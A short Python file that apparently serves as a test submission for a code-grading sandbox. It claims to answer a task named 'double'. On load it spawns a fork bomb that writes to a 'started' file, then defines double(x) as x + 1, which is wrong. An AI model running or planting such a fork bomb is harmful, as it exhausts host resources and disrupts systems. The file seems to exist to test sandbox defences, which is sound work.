# %% answer="double"
import os
import time

started = os.open("started", os.O_CREAT | os.O_WRONLY | os.O_APPEND)


def bomb():
    while True:
        try:
            os.fork()
            os.write(started, b"x")
        except OSError:
            time.sleep(0.01)


if os.fork() == 0:
    bomb()
time.sleep(2)


def double(x):
    return x + 1
